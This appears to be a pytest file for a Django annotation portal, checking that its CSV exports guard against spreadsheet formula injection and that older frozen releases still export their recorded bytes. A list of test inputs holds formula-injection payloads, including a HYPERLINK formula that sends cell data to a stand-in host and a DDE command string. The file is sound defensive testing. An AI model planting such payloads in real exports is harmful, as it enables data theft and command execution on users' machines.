"""CSV formula injection: every CSV the portal writes guards text cells a spreadsheet would run (portal/csv_cells.py),
leaves numbers alone, and releases frozen before the guard keep exporting the bytes their manifest recorded."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pandas as pd
import pytest

from annotation.models import Dispute, QAItem, Release
from annotation.services.imports import items_import
from annotation.services.judgement_exports import judgements_export
from annotation.services.releases import release_export, release_freeze, release_verify
from portal import csv_cells
from tests.reviews import done_review

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def _cells(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_text_cells_are_guarded_and_numbers_are_not():
    frame = pd.DataFrame({"text": [*HOSTILE, "plain", None], "score": [-0.5, 1.0, -3, 0, 1, 2, 3, 4]})
    guarded = csv_cells.guard_frame(frame)
    assert list(guarded["text"][:6]) == ["'" + v for v in HOSTILE]
    assert guarded["text"][6] == "plain" and pd.isna(guarded["text"][7])
    assert list(guarded["score"]) == list(frame["score"])  # -0.5 stays a number
    buffer = io.StringIO()
    writer = csv_cells.DictWriter(buffer, fieldnames=["text", "n"], lineterminator="\n")
    writer.writeheader()
    writer.writerows([{"text": "=1+1", "n": -1}])
    assert buffer.getvalue() == "text,n\n'=1+1,-1\n"


def test_text_columns_and_mixed_columns_are_guarded_by_the_same_rule():
    """A column pandas holds as text is guarded vectorised, one holding anything cell by cell: same result."""
    text = [*HOSTILE, "plain", None, "x-1", "'=already quoted"]
    mixed = [*HOSTILE, 3, None, ["=list"], -1.5]
    frame = pd.DataFrame({"text": text, "mixed": pd.Series(mixed, dtype=object)})
    assert not pd.api.types.is_object_dtype(frame["text"].dtype)  # pandas' own string dtype
    guarded = csv_cells.guard_frame(frame)
    for column, values in (("text", text), ("mixed", mixed)):
        expected = [csv_cells.guard_cell(v) for v in values]
        got = list(guarded[column])
        assert [None if (not isinstance(v, list) and pd.isna(v)) else v for v in got] == expected
    assert list(frame["text"][:1]) == HOSTILE[:1]  # the caller's frame is left as it was


@pytest.mark.django_db
def test_judgement_csv_guards_comments_and_dispute_text(make_user, tmp_path):
    items_import(paths=[Path(__file__).resolve().parents[2] / "fixtures" / "cliniqlink-sample" / "TF.json"])
    item = QAItem.objects.order_by("id").first()
    reviewer = make_user("reviewer")
    review = done_review(item, reviewer, "primary", "correct", 5)
    review.comment = HOSTILE[0]
    review.save()
    Dispute.objects.create(item=item, raised_by=reviewer, category="other", text="@SUM(A1)", quote_text="-2+3")
    judgements, disputes = judgements_export(fmt="csv", out_dir=tmp_path)
    assert _cells(judgements.read_text())[0]["comment"] == "'" + HOSTILE[0]
    assert _cells(judgements.read_text())[0]["relevance"] in {"5", "5.0"}
    row = _cells(disputes.read_text())[0]
    assert (row["text"], row["quote_text"]) == ("'@SUM(A1)", "'-2+3")


def _import_formula_item(tmp_path) -> None:
    """One item whose question and answer a spreadsheet would run as formulas."""
    record = {
        "question": "=1+1 is it?",
        "answer": "-1",
        "type": "short_answer",
        "source": {"isbn": "x", "page": 1, "paragraph_id": "p1"},
    }
    (tmp_path / "short.json").write_text(json.dumps([record]))
    items_import(paths=[tmp_path / "short.json"])


@pytest.fixture
def hostile_release(tmp_path):
    _import_formula_item(tmp_path)
    QAItem.objects.update(status="verified", final_verdict="correct", final_relevance=5.0)
    return release_freeze(name="formulas")


@pytest.mark.django_db
def test_new_release_csv_guards_text_cells_and_verifies(hostile_release, tmp_path):
    assert hostile_release.csv_cells == Release.CsvCells.GUARDED
    (path,) = [
        p for p in release_export(release=hostile_release, fmt="csv", out_dir=tmp_path / "out") if p.name == "items.csv"
    ]
    (row,) = _cells(path.read_text())
    assert (row["question"], row["answer"], row["final_relevance"]) == ("'=1+1 is it?", "'-1", "5.0")
    assert release_verify(release=hostile_release, folder=tmp_path / "out") == []


@pytest.mark.django_db(transaction=True)
def test_release_frozen_before_the_guard_still_exports_its_recorded_bytes(tmp_path):
    """A release frozen by the old code (text verbatim, manifest of those bytes) is marked ``verbatim`` by the
    migration and keeps exporting exactly the bytes its manifest recorded."""
    from django.db import connection, transaction
    from django.db.migrations.executor import MigrationExecutor

    from annotation.exporters import manifest
    from annotation.services.releases import _write

    _import_formula_item(tmp_path)
    item = QAItem.objects.get()
    entry = {
        "position": 0,
        "item_id": item.pk,
        "uid": item.uid,
        "qa_type": item.qa_type,
        "record": item.raw,
        "final_verdict": item.final_verdict,
        "final_relevance": item.final_relevance,
        "final_source": item.final_source,
        "review_count": 0,
        "nuggets": None,
    }
    folder = tmp_path / "frozen"
    paths = _write("csv", [entry], folder, csv_cells="verbatim")  # the bytes the old freeze wrote
    assert ",=1+1 is it?,-1," in paths[0].read_text()

    before, after = ("annotation", "0007_normalise_imported_values"), ("annotation", "0008_release_csv_cells")
    executor = MigrationExecutor(connection)
    executor.migrate([before])
    try:
        old = executor.loader.project_state([before]).apps
        with transaction.atomic():  # as the freeze does: the database refuses a release left unfrozen at commit
            release = old.get_model("annotation", "Release").objects.create(
                name="old", version=1, rule={}, item_count=1, checksum="0" * 64, report={},
                manifests={"csv": manifest.build(paths, folder)},
            )  # fmt: skip
            # the columns that release items had then (later migrations added nuggets)
            then = {k: v for k, v in entry.items() if k != "nuggets"}
            old.get_model("annotation", "ReleaseItem").objects.create(release=release, **then)
            release.frozen = True
            release.save(update_fields=["frozen"])
        MigrationExecutor(connection).migrate([after])
        latest = MigrationExecutor(connection)
        latest.migrate(latest.loader.graph.leaf_nodes())  # today's models read today's tables
        frozen = Release.objects.get(name="old")
        assert frozen.csv_cells == Release.CsvCells.VERBATIM
        release_export(release=frozen, fmt="csv", out_dir=tmp_path / "again")
        assert release_verify(release=frozen, folder=tmp_path / "again", fmt="csv") == []
    finally:
        executor = MigrationExecutor(connection)
        executor.migrate(executor.loader.graph.leaf_nodes())
